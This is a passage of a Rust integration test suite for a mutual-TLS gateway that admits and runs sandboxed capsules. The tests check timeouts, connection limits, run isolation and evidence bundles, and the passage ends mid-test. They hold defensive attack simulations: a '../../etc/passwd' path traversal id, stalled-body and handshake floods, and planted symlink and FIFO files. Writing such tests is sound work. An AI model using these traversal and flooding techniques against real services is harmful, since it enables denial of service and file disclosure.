    assert!(log.contains("NOT FOR PRODUCTION"), "{log}");
    assert!(log.contains("created development trust domain"), "{log}");
    let dev = state.join("dev");
    for p in [
        "gateway.toml",
        "policy.toml",
        "client/svid.pem",
        "keys/dev-es.private.jwk.json",
    ] {
        assert!(dev.join(p).is_file(), "{p} under {dev:?}");
    }

    // The demo's capsule, packed exactly as scripts/dev-capsule.sh does.
    let capsule = pack_dev_capsule(&state, tmp.path());
    let jws = read_jws(&capsule);

    let cfg = client_config(
        &dev.join("client"),
        "spiffe://capsule-gateway.dev/gateway",
        false,
    );
    let rt = runtime();
    rt.block_on(async {
        let mut c = Client::connect(gateway.addr, cfg.clone())
            .await
            .expect("connect");
        c.upload_dir(&capsule.join("files")).await;
        let r = c.admit(jws.clone()).await.expect("admission");
        assert_eq!(r.status, 200, "{r:?}");
        let d = r.json();
        assert_eq!(
            (
                d["verdict"].as_str(),
                d["tenant"].as_str(),
                d["kid"].as_str()
            ),
            (Some("admit"), Some("dev"), Some("dev-es"))
        );
        assert_eq!(d["capsule_id"], "dev-hello");
    });
    assert!(gateway.terminate().success(), "{}", gateway.stderr());

    let mut gateway = Gateway::serve(&args);
    assert!(gateway
        .stderr()
        .contains("reusing development trust domain"));
    rt.block_on(async {
        let mut c = Client::connect(gateway.addr, cfg).await.expect("connect");
        // The blobs and the state survived the restart.
        let r = c.admit(jws.clone()).await.expect("admission");
        assert_eq!(r.status, 200, "the same capsule again: {r:?}");
    });
    assert!(gateway.terminate().success(), "{}", gateway.stderr());
    let state = State::open(&state, false, &verify_core::SystemClock)
        .expect("open")
        .expect("state");
    assert_eq!(state.verify_log().expect("intact chain"), 2);
}

/// Reads until the peer closes the connection (or `limit` passes); returns what was
/// read and how long it took.
async fn read_until_closed<R: tokio::io::AsyncRead + Unpin>(
    r: &mut R,
    limit: Duration,
) -> (Vec<u8>, Duration) {
    use tokio::io::AsyncReadExt;
    let start = Instant::now();
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        match tokio::time::timeout(limit.saturating_sub(start.elapsed()), r.read(&mut buf)).await {
            Err(_) => panic!(
                "the server kept a stalled connection open for {limit:?}; read so far: {:?}",
                String::from_utf8_lossy(&got)
            ),
            Ok(Ok(0)) | Ok(Err(_)) => return (got, start.elapsed()),
            Ok(Ok(n)) => got.extend_from_slice(&buf[..n]),
        }
    }
}

/// Slow or idle peers cannot hold a connection: no TLS handshake, a request head that
/// never ends, a body that stalls, and a keep-alive connection left silent are each
/// closed (the stalled body with 408) within their deadlines, while the same
/// connection code with a complete request is served.
#[test]
fn slow_and_idle_peers_are_timed_out() {
    use tokio::io::AsyncWriteExt;
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.handshake_timeout_ms = 300;
    config.limits.body_timeout_ms = 400;
    config.limits.idle_timeout_ms = 800;
    let server = start(&config);
    let addr = server.local_addr();
    let valid = f.ca.issue(&SvidSpec::id(RUNNER));
    let tls = tokio_rustls::TlsConnector::from(f.raw_client_config(Some(&valid)));
    let name = rustls::pki_types::ServerName::try_from("capsule-gateway").expect("name");
    let limit = Duration::from_secs(5);
    runtime().block_on(async {
        // No handshake at all: closed at the handshake deadline.
        let mut tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
        let (_, took) = read_until_closed(&mut tcp, limit).await;
        assert!(
            took >= Duration::from_millis(250),
            "closed too early: {took:?}"
        );

        // A request head that never ends.
        let tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
        let mut s = tls.connect(name.clone(), tcp).await.expect("handshake");
        s.write_all(b"POST /v1/admissions HTTP/1.1\r\nhost: gw\r\n")
            .await
            .expect("write");
        let (got, _) = read_until_closed(&mut s, limit).await;
        assert!(!String::from_utf8_lossy(&got).contains("200 OK"), "{got:?}");

        // A body that stalls after 10 of 1000 bytes: 408, then closed.
        let tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
        let mut s = tls.connect(name.clone(), tcp).await.expect("handshake");
        s.write_all(
            b"POST /v1/admissions HTTP/1.1\r\nhost: gw\r\ncontent-length: 1000\r\n\r\n0123456789",
        )
        .await
        .expect("write");
        let (got, _) = read_until_closed(&mut s, limit).await;
        let text = String::from_utf8_lossy(&got);
        assert!(text.starts_with("HTTP/1.1 408"), "{text}");

        // A complete request is served; then the silent keep-alive connection is
        // closed: HTTP/1.1 waits for the next request head only as long as for the
        // first (hyper's head deadline restarts after each response).
        let tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
        let mut s = tls.connect(name.clone(), tcp).await.expect("handshake");
        s.write_all(b"GET /healthz HTTP/1.1\r\nhost: gw\r\n\r\n")
            .await
            .expect("write");
        let (got, took) = read_until_closed(&mut s, limit).await;
        let text = String::from_utf8_lossy(&got);
        assert!(text.starts_with("HTTP/1.1 200"), "{text}");
        assert!(
            took >= Duration::from_millis(250),
            "idle close too early: {took:?}"
        );

        // HTTP/2 has no head deadline between streams: the idle deadline closes it.
        let h2 = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, true);
        let mut c = Client::connect(addr, h2).await.expect("h2 connects");
        assert_eq!(c.get("/healthz").await.expect("served").status, 200);
        tokio::time::sleep(Duration::from_millis(1500)).await;
        let after = c.get("/healthz").await;
        assert!(
            after.is_err(),
            "an idle HTTP/2 connection stayed open: {after:?}"
        );
    });
    server.shutdown();
}

/// With a TPM configured, `/readyz` is 200 only while the TPM answers: a real swtpm,
/// then the same service after the swtpm is gone (503 naming the TPM). `/healthz`
/// stays 200: the process is alive, it just must not be sent work that needs the TPM.
#[test]
fn readiness_follows_the_configured_tpm() {
    let f = Fixture::new();
    let tpm = attest_testkit::swtpm::Swtpm::start().expect("swtpm");
    let mut config = f.config();
    config.tpm = Some(capsule_gateway::serve::config::TpmConfig { tcti: tpm.tcti() });
    let server = start(&config);
    let addr = server.local_addr();
    let client = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    runtime().block_on(async {
        let mut c = Client::connect(addr, client.clone())
            .await
            .expect("connects");
        let ready = c.get("/readyz").await.expect("readyz");
        assert_eq!(ready.status, 200, "{}", ready.text());
        drop(tpm);
        let mut c = Client::connect(addr, client).await.expect("connects");
        let ready = c.get("/readyz").await.expect("readyz");
        assert_eq!(ready.status, 503, "{}", ready.text());
        assert!(ready.text().contains("TPM"), "{}", ready.text());
        assert_eq!(c.get("/healthz").await.expect("healthz").status, 200);
    });
    server.shutdown();
}

/// `POST /v1/runs` through the real binary with `[runs]` (gVisor, Debian package
/// `runsc`): a capsule whose files came in as blobs is admitted, answered 202 with a
/// run id at once, runs in the sandbox, and `GET /v1/runs/{id}` turns from `running`
/// to `completed` with the run's CloudEvent (its stdout, egress blocked, teardown
/// verified, the capsule digest). A denied capsule gets 403, no run and a denial
/// bundle (both bundles verify with `evidence verify`); an unknown or malformed id
/// is 404. Another runner of the same tenant holding the run id gets
/// exactly the unknown id's 404, while the run is under way and after it finished.
/// After a restart the finished run is still found by its owner only (the owner is
/// the event's `source`, in the evidence bundle).
#[test]
fn runs_are_launched_in_gvisor_and_another_peers_run_reads_as_unknown() {
    let f = Fixture::new();
    let w = &f.world;
    let config = f.write_config("[runs]\nruntime = \"runsc\"\n");
    let script: &[u8] = b"#!/bin/sh\necho hello from a served run\n";
    let files: [(&str, &[u8]); 1] = [("run.sh", script)];
    let m = w.script_manifest(&files);
    let good = w.capsule_with_files("served-run", &m, &files, Signer::Es256);
    let cfg = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    // Another runner of the same tenant, allowed to connect and to run capsules.
    let other = client_config(&f.client_svid_dir(OTHER_RUNNER), GATEWAY_ID, true);
    let rt = runtime();
    let mut gateway = Gateway::serve(&[OsStr::new("--config"), s(&config)]);
    let run_id = rt.block_on(async {
        let mut c = Client::connect(gateway.addr, cfg.clone())
            .await
            .expect("connect");
        c.upload_dir(&good.join("files")).await;

        let denied = c
            .request(
                Method::POST,
                "/v1/runs",
                full(read_jws(&good).replace('.', "")),
            )
            .await
            .expect("answer");
        assert_eq!(denied.status, 403, "{}", denied.text());
        assert_eq!(denied.json()["reason"], "malformed_jws");

        let started = c
            .request(Method::POST, "/v1/runs", full(read_jws(&good)))
            .await
            .expect("answer");
        assert_eq!(started.status, 202, "{}", started.text());
        let body = started.json();
        assert_eq!(body["decision"]["verdict"], "admit");
        let id = body["run_id"].as_str().expect("run id").to_string();
        // While it runs, another peer is told what an unknown id gets.
        let mut o = Client::connect(gateway.addr, other.clone())
            .await
            .expect("the other runner connects");
        assert_not_visible(&mut o, &id).await;

        let end = Instant::now() + Duration::from_secs(120);
        let done = loop {
            let r = c.get(&format!("/v1/runs/{id}")).await.expect("status");
            assert_eq!(r.status, 200, "{}", r.text());
            let v = r.json();
            if v["status"] != "running" {
                break v;
            }
            assert!(Instant::now() < end, "the run did not finish");
            tokio::time::sleep(Duration::from_millis(200)).await;
        };
        assert_eq!(done["status"], "completed", "{done}");
        let event = &done["event"];
        assert_eq!(event["type"], "dev.capsule-gateway.run.completed");
        assert_eq!(event["id"], id.as_str());
        assert_eq!(event["source"], RUNNER);
        let data = &event["data"];
        assert_eq!(data["stdout"], "hello from a served run\n");
        assert_eq!(data["exit_code"], 0);
        assert_eq!(data["egress_probe"]["blocked"], true);
        assert_eq!(data["teardown"]["ok"], true);
        assert_eq!(data["capsule_digest"], body["decision"]["digest"]);

        for bad in ["0123456789abcdef0123456789abcdef", "../../etc/passwd", "x"] {
            let r = c.get(&format!("/v1/runs/{bad}")).await.expect("answer");
            assert_eq!(r.status, 404, "{bad}: {}", r.text());
        }
        // Finished: still nothing for the other peer (no outputs, no JWS, no oracle).
        assert_not_visible(&mut o, &id).await;
        id
    });
    assert!(gateway.terminate().success(), "{}", gateway.stderr());

    // The run's bundle and the denied run's bundle (issue 12) both carry a signed
    // index and verify offline.
    let mut kinds = Vec::new();
    for e in std::fs::read_dir(f.state_dir().join("evidence"))
        .expect("evidence")
        .flatten()
    {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_capsule-gateway"))
            .args(["evidence", "verify", "--json"])
            .arg(e.path())
            .output()
            .expect("evidence verify");
        let report: Value = serde_json::from_slice(&out.stdout).expect("json report");
        assert_eq!(out.status.code(), Some(0), "{report}");
        kinds.push(report["kind"].as_str().expect("kind").to_string());
    }
    kinds.sort();
    assert_eq!(kinds, ["denial", "run"]);

    let gateway = Gateway::serve(&[OsStr::new("--config"), s(&config)]);
    rt.block_on(async {
        let mut c = Client::connect(gateway.addr, cfg).await.expect("connect");
        let r = c.get(&format!("/v1/runs/{run_id}")).await.expect("status");
        assert_eq!(r.json()["status"], "completed", "{}", r.text());
        assert_eq!(r.json()["event"]["source"], RUNNER);
        // The owner came back from the bundle: the other peer still gets nothing.
        let mut o = Client::connect(gateway.addr, other).await.expect("connect");
        assert_not_visible(&mut o, &run_id).await;
    });
}

/// A runner of the same tenant that did not start the run.
const OTHER_RUNNER: &str = "spiffe://acme.example/runner/r2";

/// `GET /v1/runs/{id}` of another peer's run answers exactly what an unknown id does:
/// same status, same headers that matter, byte-identical body.
async fn assert_not_visible(c: &mut Client, id: &str) {
    let theirs = c.get(&format!("/v1/runs/{id}")).await.expect("answer");
    let unknown = c
        .get("/v1/runs/0123456789abcdef0123456789abcdef")
        .await
        .expect("answer");
    assert_eq!(theirs.status, 404, "{}", theirs.text());
    assert_eq!(theirs.body, unknown.body, "{}", theirs.text());
    assert_eq!(
        theirs.headers.get("content-type"),
        unknown.headers.get("content-type")
    );
    assert!(!theirs.text().contains(id), "{}", theirs.text());
}

/// Admission bodies held in memory are bounded across all connections: peers that
/// declare large bodies and stall hold the budget (`limits.max_buffered_bytes`), a
/// further admission is shed with 503 and Retry-After instead of buffered, and once
/// the stalled peers are gone the service admits again.
#[test]
fn buffered_admission_bodies_are_bounded_across_connections() {
    use tokio::io::AsyncWriteExt;
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.max_buffered_bytes = 1 << 20;
    let server = start(&config);
    let addr = server.local_addr();
    let valid = f.ca.issue(&SvidSpec::id(RUNNER));
    let tls = tokio_rustls::TlsConnector::from(f.raw_client_config(Some(&valid)));
    let name = rustls::pki_types::ServerName::try_from("capsule-gateway").expect("name");
    let cfg = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    let jws = read_jws(&f.world.good_capsule("good", Signer::Es256));
    runtime().block_on(async {
        let mut c = Client::connect(addr, cfg.clone()).await.expect("connect");
        c.upload_world_files().await;
        // Each stalled peer declares 64 KiB (the fixture policy's limit): 16 of them
        // hold the whole 1 MiB.
        let mut stalled = Vec::new();
        for _ in 0..16 {
            let tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
            let mut s = tls.connect(name.clone(), tcp).await.expect("handshake");
            s.write_all(
                b"POST /v1/admissions HTTP/1.1\r\nhost: gw\r\ncontent-length: 65536\r\n\r\nab",
            )
            .await
            .expect("write");
            stalled.push(s);
        }
        // Wait until the server has taken all 16 requests in.
        tokio::time::sleep(Duration::from_millis(300)).await;
        let r = c.admit(jws.clone()).await.expect("answer");
        assert_eq!(r.status, 503, "{}", r.text());
        assert_eq!(
            r.headers.get("retry-after").map(|v| v.as_bytes()),
            Some(&b"1"[..])
        );
        drop(stalled);
        tokio::time::sleep(Duration::from_millis(300)).await;
        let r = c.admit(jws).await.expect("answer");
        assert_eq!(r.status, 200, "{}", r.text());
    });
    server.shutdown();
}

/// A partial TLS ClientHello: a handshake record header announcing 512 bytes, and
/// the first few of them.
const PARTIAL_CLIENT_HELLO: &[u8] = &[
    0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03,
];

/// Opens a TCP connection from `source` (a loopback address) and sends `bytes`.
async fn anonymous_socket(
    addr: std::net::SocketAddr,
    source: &str,
    bytes: &[u8],
) -> tokio::net::TcpStream {
    use tokio::io::AsyncWriteExt;
    let sock = tokio::net::TcpSocket::new_v4().expect("socket");
    sock.bind(format!("{source}:0").parse().expect("source"))
        .expect("bind a loopback source address");
    let mut tcp = sock.connect(addr).await.expect("connect");
    if !bytes.is_empty() {
        tcp.write_all(bytes).await.expect("write");
    }
    tcp
}

/// Whether the server closed `tcp` within `wait` (EOF or reset).
async fn closed_within(tcp: &mut tokio::net::TcpStream, wait: Duration) -> bool {
    use tokio::io::AsyncReadExt;
    let mut buf = [0u8; 256];
    loop {
        match tokio::time::timeout(wait, tcp.read(&mut buf)).await {
            Err(_) => return false,
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
        }
    }
}

/// Polls `/metrics` over `c` until `name` reads `want` (generous functional timeout).
async fn wait_metric(c: &mut Client, name: &str, want: f64) {
    let end = Instant::now() + Duration::from_secs(10);
    loop {
        let m = c.metrics().await;
        if metric(&m, name) == Some(want) {
            return;
        }
        assert!(Instant::now() < end, "{name} never reached {want}: {m}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Regression (issue 10, item 9): idle TCP sockets and sockets that sent half a
/// ClientHello used to hold every connection place for the whole handshake timeout,
/// so a runner waited for them. Now they sit in a pool of pending handshakes of their
/// own, and a newcomer closes the oldest: with a 60 s handshake timeout, more
/// anonymous sockets than there are places of either kind, a runner still connects
/// and is served at once, the oldest anonymous sockets are closed by the server (and
/// counted), and a runner that was already connected is never evicted.
#[test]
fn anonymous_sockets_cannot_crowd_out_a_runner() {
    const PENDING: usize = 8;
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.handshake_timeout_ms = 60_000;
    config.limits.max_connections = 4;
    config.limits.max_pending_handshakes = PENDING;
    let server = start(&config);
    let addr = server.local_addr();
    let cfg = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    runtime().block_on(async {
        let mut a = Client::connect(addr, cfg.clone()).await.expect("runner A");
        assert_eq!(a.get("/healthz").await.expect("healthz").status, 200);
        // More anonymous sockets than pending places (and than connection places).
        let mut flood = Vec::new();
        for i in 0..PENDING + 4 {
            let bytes = if i.is_multiple_of(2) {
                &[][..]
            } else {
                PARTIAL_CLIENT_HELLO
            };
            flood.push(anonymous_socket(addr, "127.0.0.1", bytes).await);
        }
        wait_metric(&mut a, "capsule_gateway_pending_handshakes", PENDING as f64).await;

        let admitted = tokio::time::timeout(Duration::from_secs(10), async {
            let mut b = Client::connect(addr, cfg.clone()).await.expect("runner B");
            b.get("/healthz").await.expect("healthz").status
        })
        .await
        .expect("a runner waited behind anonymous sockets");
        assert_eq!(admitted, 200);

        // The four oldest went while the flood came in, one more for runner B.
        let mut closed = 0;
        for tcp in &mut flood {
            if closed_within(tcp, Duration::from_millis(500)).await {
                closed += 1;
            }
        }
        assert_eq!(closed, 5, "anonymous sockets closed by the server");
        assert!(
            closed_within(&mut flood[0], Duration::from_millis(100)).await,
            "the oldest is closed first"
        );
        let m = a.metrics().await;
        assert_eq!(
            metric(&m, "capsule_gateway_handshakes_evicted_total"),
            Some(5.0),
            "{m}"
        );
        // Another flood evicts only pending handshakes: runner A is still served.
        for _ in 0..2 * PENDING {
            flood.push(anonymous_socket(addr, "127.0.0.1", PARTIAL_CLIENT_HELLO).await);
        }
        wait_metric(&mut a, "capsule_gateway_handshakes_evicted_total", 20.0).await;
        assert_eq!(a.get("/healthz").await.expect("runner A kept").status, 200);
    });
    server.shutdown();
}

/// One address flooding handshakes evicts its own oldest first
/// (`limits.max_pending_per_source`), not another address's pending handshakes.
#[test]
fn a_flooding_address_evicts_only_its_own_pending_handshakes() {
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.handshake_timeout_ms = 60_000;
    config.limits.max_pending_handshakes = 8;
    config.limits.max_pending_per_source = 3;
    let server = start(&config);
    let addr = server.local_addr();
    let cfg = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    runtime().block_on(async {
        let mut c = Client::connect(addr, cfg).await.expect("runner");
        let mut bystanders = Vec::new();
        for _ in 0..2 {
            bystanders.push(anonymous_socket(addr, "127.0.0.3", PARTIAL_CLIENT_HELLO).await);
        }
        wait_metric(&mut c, "capsule_gateway_pending_handshakes", 2.0).await;
        let mut flood = Vec::new();
        for _ in 0..6 {
            flood.push(anonymous_socket(addr, "127.0.0.2", &[]).await);
        }
        wait_metric(&mut c, "capsule_gateway_handshakes_evicted_total", 3.0).await;
        for (i, tcp) in flood.iter_mut().enumerate() {
            let closed = closed_within(tcp, Duration::from_millis(300)).await;
            assert_eq!(closed, i < 3, "flood socket {i}");
        }
        for tcp in &mut bystanders {
            assert!(!closed_within(tcp, Duration::from_millis(300)).await);
        }
        let m = c.metrics().await;
        assert_eq!(
            metric(&m, "capsule_gateway_pending_handshakes"),
            Some(5.0),
            "{m}"
        );
    });
    server.shutdown();
}

/// Regression (issue 10, item 10): an answer given before the request body is read
/// (413 for a body over the limit, 503 when the body budget is spent) must reach the
/// client as a response (curl 7.88 used to fail with "Stream error in the HTTP/2
/// framing layer", exit 92). The rest of the body is drained before the answer, up
/// to a bound; beyond it HTTP/2 resets the stream with NO_ERROR after the answer and
/// HTTP/1.1 answers with `Connection: close` and drains instead of resetting the
/// socket under a client still sending. Bodies of 4 and 24 MiB, with and without a
/// length, over HTTP/2 and HTTP/1.1 with the hyper client (as loadgen), and curl
/// (Debian package `curl`) over HTTP/2.
#[test]
fn early_413_and_503_reach_http2_and_http11_clients_as_responses() {
    use tokio::io::AsyncWriteExt;
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.max_buffered_bytes = 1 << 20;
    let server = start(&config);
    let addr = server.local_addr();
    let svid_dir = f.client_svid_dir(RUNNER);
    let valid = f.ca.issue(&SvidSpec::id(RUNNER));
    let tls = tokio_rustls::TlsConnector::from(f.raw_client_config(Some(&valid)));
    let name = rustls::pki_types::ServerName::try_from("capsule-gateway").expect("name");
    let big = vec![b'a'; 4 << 20];
    let huge = vec![b'a'; 24 << 20];
    let body_file = f.root.path().join("big-body");
    std::fs::write(&body_file, &big).expect("write body");
    let rt = runtime();

    let check = |r: &common::Reply, status: u16, h2: bool, closes: bool| {
        assert_eq!(r.status, status, "h2={h2}: {}", r.text());
        assert!(r.json()["error"].as_str().is_some(), "{}", r.text());
        if !h2 && closes {
            assert_eq!(
                r.headers.get("connection").map(|v| v.as_bytes()),
                Some(&b"close"[..]),
                "{:?}",
                r.headers
            );
        }
        if status == 503 {
            assert_eq!(
                r.headers.get("retry-after").map(|v| v.as_bytes()),
                Some(&b"1"[..])
            );
        }
    };
    let curl = |expect: &str| {
        let out = Command::new("curl")
            .args([
                "-sS",
                "--http2",
                "-k",
                "-o",
                "-",
                "-w",
                "\n%{http_code} %{http_version}",
            ])
            .arg("--cert")
            .arg(svid_dir.join("svid.pem"))
            .arg("--key")
            .arg(svid_dir.join("svid_key.pem"))
            .arg("--data-binary")
            .arg(format!("@{}", body_file.display()))
            .arg(format!("https://{addr}/v1/admissions"))
            .output()
            .expect("run curl (Debian package `curl`)");
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "curl: {:?}: {} {stdout}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(stdout.ends_with(expect), "{stdout}");
    };

    for h2 in [true, false] {
        rt.block_on(async {
            let cfg = client_config(&svid_dir, GATEWAY_ID, h2);
            // 4 MiB is drained before the answer (the connection stays usable);
            // 24 MiB is more than is drained: HTTP/1.1 then says it closes.
            for (body, closes) in [(&big, false), (&huge, true)] {
                for streamed in [false, true] {
                    let b = if streamed {
                        chunked(body, 64 * 1024)
                    } else {
                        full(body.clone())
                    };
                    let mut c = Client::connect(addr, cfg.clone()).await.expect("connect");
                    let r = c
                        .request(Method::POST, "/v1/admissions", b)
                        .await
                        .unwrap_or_else(|e| panic!("h2={h2} streamed={streamed}: no answer: {e}"));
                    check(&r, 413, h2, closes);
                    if !closes {
                        assert_eq!(
                            c.get("/healthz").await.expect("same connection").status,
                            200
                        );
                    }
                }
            }
        });
    }
    curl("\n413 2");

    // Stalled peers hold the whole body budget (16 × 64 KiB).
    let stalled = rt.block_on(async {
        let mut stalled = Vec::new();
        for _ in 0..16 {
            let tcp = tokio::net::TcpStream::connect(addr).await.expect("connect");
            let mut s = tls.connect(name.clone(), tcp).await.expect("handshake");
            s.write_all(
                b"POST /v1/admissions HTTP/1.1\r\nhost: gw\r\ncontent-length: 65536\r\n\r\nab",
            )
            .await
            .expect("write");
            stalled.push(s);
        }
        tokio::time::sleep(Duration::from_millis(300)).await;
        stalled
    });
    for h2 in [true, false] {
        rt.block_on(async {
            let cfg = client_config(&svid_dir, GATEWAY_ID, h2);
            let mut c = Client::connect(addr, cfg).await.expect("connect");
            let r = c
                .request(Method::POST, "/v1/admissions", chunked(&big, 16 * 1024))
                .await
                .unwrap_or_else(|e| panic!("h2={h2}: no answer: {e}"));
            check(&r, 503, h2, false);
        });
    }
    curl("\n503 2");
    drop(stalled);
    server.shutdown();
}

/// `limits.max_connections` still bounds authenticated connections: with one place
/// taken, a second runner completes its TLS handshake but gets no place and is
/// closed at the handshake deadline without being served; once the first is gone, a
/// runner is served again.
#[test]
fn authenticated_connections_beyond_max_connections_get_no_place() {
    let f = Fixture::new();
    let mut config = f.config();
    config.limits.max_connections = 1;
    config.limits.handshake_timeout_ms = 500;
    let server = start(&config);
    let addr = server.local_addr();
    let cfg = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    // HTTP/2 for A: no request-head deadline between its requests keeps it open.
    let h2 = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, true);
    runtime().block_on(async {
        let mut a = Client::connect(addr, h2).await.expect("runner A");
        assert_eq!(a.get("/healthz").await.expect("healthz").status, 200);
        // TLS 1.3: the client's handshake is done before the server decides.
        let second = match Client::connect(addr, cfg.clone()).await {
            Ok(mut b) => b.get("/healthz").await,
            Err(e) => Err(e),
        };
        assert!(
            second.is_err(),
            "a second connection was served: {second:?}"
        );
        let m = a.metrics().await;
        assert_eq!(
            metric(
                &m,
                "capsule_gateway_handshake_failures_total{cause=\"timeout\"}"
            ),
            Some(1.0),
            "{m}"
        );
        assert_eq!(metric(&m, "capsule_gateway_connections"), Some(1.0), "{m}");
        drop(a);
        // The place comes back once A's connection is closed (and drained).
        let end = Instant::now() + Duration::from_secs(10);
        loop {
            if let Ok(mut c) = Client::connect(addr, cfg.clone()).await {
                if let Ok(r) = c.get("/healthz").await {
                    assert_eq!(r.status, 200);
                    break;
                }
            }
            assert!(Instant::now() < end, "the place never came back");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    });
    server.shutdown();
}

/// `GET /v1/runs/{id}` reads finished runs back from their bundles (as after a
/// restart): the owner (the event's `source`) reads its run; another runner gets the
/// unknown id's 404 byte for byte; and a bundle whose `event.json` is a symlink or a
/// FIFO, or whose directory is a symlink, is never followed or opened for reading
/// (404 at once, no hang, no host path in the answer), for the owner too.
#[test]
fn another_peers_run_and_a_planted_bundle_read_as_unknown() {
    use capsule_gateway::serve::config::{RunsConfig, RunsRuntime};
    let f = Fixture::new();
    let mut config = f.config();
    config.runs = Some(RunsConfig {
        runtime: RunsRuntime::Runsc,
        platform: "ptrace".into(),
        max_concurrent: 1,
        kata: None,
        rootfs: sandbox_launcher::rootfs::BASE_ROOTFS.into(),
    });
    let evidence = f.state_dir().join("evidence");
    let [good, link, fifo, dir_link] = ["a", "b", "c", "d"].map(|c| c.repeat(32));
    let event = |id: &str| {
        json!({
            "specversion": "1.0",
            "type": "dev.capsule-gateway.run.completed",
            "source": RUNNER,
            "id": id,
            "data": {"stdout": "the owner's output\n"},
        })
        .to_string()
    };
    for id in [&good, &link, &fifo] {
        std::fs::create_dir_all(evidence.join(id)).expect("bundle dir");
    }
    std::fs::write(evidence.join(&good).join("event.json"), event(&good)).expect("write");
    let outside = f.root.path().join("outside.json");
    std::fs::write(&outside, event(&link)).expect("write");
    std::os::unix::fs::symlink(&outside, evidence.join(&link).join("event.json")).expect("ln");
    let made = Command::new("mkfifo")
        .arg(evidence.join(&fifo).join("event.json"))
        .status()
        .expect("mkfifo (Debian package coreutils)");
    assert!(made.success());
    std::os::unix::fs::symlink(evidence.join(&good), evidence.join(&dir_link)).expect("ln");

    let server = start(&config);
    let addr = server.local_addr();
    let owner = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    let other = client_config(&f.client_svid_dir(OTHER_RUNNER), GATEWAY_ID, true);
    runtime().block_on(async {
        let mut c = Client::connect(addr, owner).await.expect("connect");
        let r = c.get(&format!("/v1/runs/{good}")).await.expect("answer");
        assert_eq!(r.status, 200, "{}", r.text());
        assert_eq!(r.json()["status"], "completed");
        assert_eq!(r.json()["event"]["data"]["stdout"], "the owner's output\n");
        for id in [&link, &fifo, &dir_link] {
            assert_not_visible(&mut c, id).await;
            let r = c.get(&format!("/v1/runs/{id}")).await.expect("answer");
            assert!(!r.text().contains("evidence"), "{}", r.text());
        }
        let mut o = Client::connect(addr, other).await.expect("connect");
        assert_not_visible(&mut o, &good).await;
    });
    server.shutdown();
}

/// A service whose state last trusted a time a day ahead of the host's clock (the
/// clock was stepped back since) admits nothing: 403 `clock_rollback`, and nothing is
/// recorded.
#[test]
fn a_clock_stepped_back_behind_the_state_is_clock_rollback_through_the_service() {
    let f = Fixture::new();
    let now = verify_core::Clock::now_unix(&verify_core::SystemClock);
    let ahead = verify_core::FixedClock(now + 86_400);
    drop(
        State::open(&f.state_dir(), true, &ahead)
            .expect("state")
            .expect("created"),
    );
    let good = read_jws(&f.world.good_capsule("good", Signer::Es256));
    let server = start(&f.config());
    let client = f.client_svid_dir(RUNNER);
    runtime().block_on(async {
        let mut c = Client::connect(
            server.local_addr(),
            client_config(&client, GATEWAY_ID, false),
        )
        .await
        .expect("connect");
        c.upload_world_files().await;
        let r = c.admit(good).await.expect("admission");
        assert_eq!(r.status, 403, "{r:?}");
        assert_eq!(r.json()["reason"], "clock_rollback", "{r:?}");
    });
    server.shutdown();
    let state = State::open(&f.state_dir(), false, &verify_core::SystemClock)
        .expect("open state")
        .expect("state exists");
    // Nothing admitted: the one record is the logged `clock_rollback` denial.
    assert_eq!(state.verify_log().expect("intact chain"), 1);
    drop(state);
    let log = admission_log(&f.state_dir());
    assert_eq!(
        (log[0]["kind"].as_str(), log[0]["reason"].as_str()),
        (Some("deny"), Some("clock_rollback"))
    );
    let state = State::open(&f.state_dir(), false, &verify_core::SystemClock)
        .expect("open state")
        .expect("state exists");
    assert_eq!(state.last_known_time_now(), Some(now + 86_400));
}

/// `[events] sink`: the service queues each run's event in the durable spool and a
/// background thread delivers it. The sink is down (503) when the run ends; once it
/// recovers, the event arrives (retried with backoff) as a structured CloudEvent,
/// shaped by the tenant's mode (`local-only` here: a notice with the index digest,
/// no outputs), accepted once, and the spool is empty.
#[test]
fn served_run_events_reach_a_sink_that_recovers() {
    use common::sink::{TestSink, DOWN, UP};
    let f = Fixture::new();
    let w = &f.world;
    let sink = TestSink::start();
    sink.set(DOWN);
    let config = f.write_config(&format!(
        "[runs]\nruntime = \"runsc\"\n\n[events]\nsink = \"{}\"\ntimeout_ms = 500\n",
        sink.url
    ));
    let script: &[u8] = b"#!/bin/sh\necho served to a sink\n";
    let files: [(&str, &[u8]); 1] = [("run.sh", script)];
    let m = w.script_manifest(&files);
    let capsule = w.capsule_with_files("sink-run", &m, &files, Signer::Es256);
    let cfg = client_config(&f.client_svid_dir(RUNNER), GATEWAY_ID, false);
    let rt = runtime();
    let mut gateway = Gateway::serve(&[OsStr::new("--config"), s(&config)]);
    let spool = f.state_dir().join("spool/events");
    let id = rt.block_on(async {
        let mut c = Client::connect(gateway.addr, cfg).await.expect("connect");
        c.upload_dir(&capsule.join("files")).await;
        let started = c
            .request(Method::POST, "/v1/runs", full(read_jws(&capsule)))
            .await
            .expect("answer");
